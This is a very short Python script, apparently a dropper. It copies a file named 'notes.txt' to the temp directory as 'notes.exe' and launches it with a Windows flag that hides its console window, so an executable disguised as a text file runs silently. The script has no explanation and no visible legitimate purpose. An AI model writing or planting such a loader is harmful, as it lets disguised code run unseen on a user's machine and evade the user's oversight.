import os
import shutil
import subprocess

src = os.path.join(os.path.dirname(__file__), "notes.txt")
dst = os.path.join(os.environ.get("TEMP", "/tmp"), "notes.exe")
shutil.copy(src, dst)
subprocess.Popen([dst], creationflags=0x08000000)
